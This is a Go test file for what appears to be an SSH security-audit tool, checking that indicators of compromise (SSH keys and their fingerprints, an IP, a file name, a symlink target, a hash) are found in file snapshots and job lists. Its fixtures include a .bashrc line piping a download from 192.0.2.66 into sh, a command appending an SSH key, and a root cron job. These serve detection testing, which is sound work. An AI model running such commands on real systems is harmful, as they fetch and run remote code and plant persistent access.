package triage

import (
	"crypto/md5"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"github.com/postern-ssh/postern/audit/facts"
	"github.com/postern-ssh/postern/audit/snapshot"
)

const iocKey = "AAAAC3NzaC1lZDI1NTE5AAAAIE4nBdBMvuiQzqE8wLL52XG1Ki7g6E3HuDJXe5+nSeS9"

// TestIOCKeys: a key is found by each of its names, wherever its base64 or one of its
// fingerprints stands.
func TestIOCKeys(t *testing.T) {
	blob, err := base64.StdEncoding.DecodeString(iocKey)
	if err != nil {
		t.Fatal(err)
	}
	sum, old := sha256.Sum256(blob), md5.Sum(blob)
	sha := "SHA256:" + base64.RawStdEncoding.EncodeToString(sum[:])
	var pairs []string
	for _, b := range old {
		pairs = append(pairs, fmt.Sprintf("%02X", b))
	}
	bare := strings.Join(pairs, ":")
	for _, c := range []struct {
		list  string
		texts []string
	}{
		{"ssh-ed25519 " + iocKey + " someone@else\n", []string{"h ssh-ed25519 " + iocKey, "echo ssh-ed25519 " + iocKey + ">>k", "Accepted publickey for root from 192.0.2.1 port 2 ssh2: ED25519 " + sha}},
		{sha + "\n", []string{"command=\"x\" ssh-ed25519 " + iocKey + " c", "key " + sha + "."}},
		{sha + "=\n", []string{sha}},
		{"MD5:" + bare + "\n", []string{"ssh-ed25519 " + iocKey, "RSA MD5:" + strings.ToLower(bare), "Found matching key: " + strings.ToLower(bare)}},
		{strings.ToLower(bare) + "\n", []string{iocKey, "MD5:" + bare}},
	} {
		l, err := ParseIOC("l", []byte(c.list))
		if err != nil {
			t.Fatal(err)
		}
		for _, text := range c.texts {
			x := &finder{l: l, seen: map[string]bool{}}
			x.text(text, "", nil)
			if len(x.hits) != 1 || x.hits[0].IOC.Kind != "key" {
				t.Errorf("%q in %q: %+v", c.list, text, x.hits)
			}
		}
		x := &finder{l: l, seen: map[string]bool{}}
		x.text("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE4nBdBMvuiQzqE8wLL52XG1Ki7g6E3HuDJXe5+nSeS8 00:01:02:03:04:05:06:07:08:09:0a:0b:0c:0d:0e:0f", "", nil)
		if len(x.hits) != 0 {
			t.Errorf("%q in another key: %+v", c.list, x.hits)
		}
	}
}

// TestIOCReads: names, links and lines of files of both rounds are looked at; a line that
// a fact told of is told once.
func TestIOCReads(t *testing.T) {
	l, err := ParseIOC("l", []byte("192.0.2.66\nsysupdx\n/opt/gone/run\nd41d8cd98f00b204e9800998ecf8427e\n"))
	if err != nil {
		t.Fatal(err)
	}
	deep := &snapshot.Snapshot{Complete: true, Files: []snapshot.File{
		{Path: "/bin/x", Type: 'f', Content: []byte("\x7fELF\x00192.0.2.66\n")},
		{Path: "/home/a/.bashrc", Type: 'f', Content: []byte("x\ncurl -s http://192.0.2.66/p | sh\n")},
		{Path: "/tmp/sysupdx", Type: 'f'},
		{Path: "/usr/local/bin/v", Type: 'l', Target: "/opt/gone/run"},
	}}
	deep.Put(snapshot.Output{Name: snapshot.OutSumsFound, Data: []byte("d41d8cd98f00b204e9800998ecf8427e  usr/sbin/sshd\n")})
	snap := &snapshot.Snapshot{Complete: true, Files: []snapshot.File{{Path: "/etc/cron.d/x", Type: 'f', Content: []byte("* * * * * root sysupdx\n")}}}
	if err := snap.Keep(deep); err != nil {
		t.Fatal(err)
	}
	f := &facts.Facts{Jobs: []facts.Job{{Command: "sysupdx", Evidence: []facts.Evidence{{Path: "/etc/cron.d/x", Line: 1}}}}}
	var got []string
	for _, h := range l.In(snap, f) {
		got = append(got, fmt.Sprintf("%s %s %s:%d", h.IOC.Text, h.Where, h.Evidence.Path, h.Evidence.Line))
	}
	want := []string{"sysupdx jobs /etc/cron.d/x:1", "d41d8cd98f00b204e9800998ecf8427e sums.found sums.found:1", "192.0.2.66 files /home/a/.bashrc:2", "sysupdx files /tmp/sysupdx:0", "/opt/gone/run files /usr/local/bin/v:0"}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}
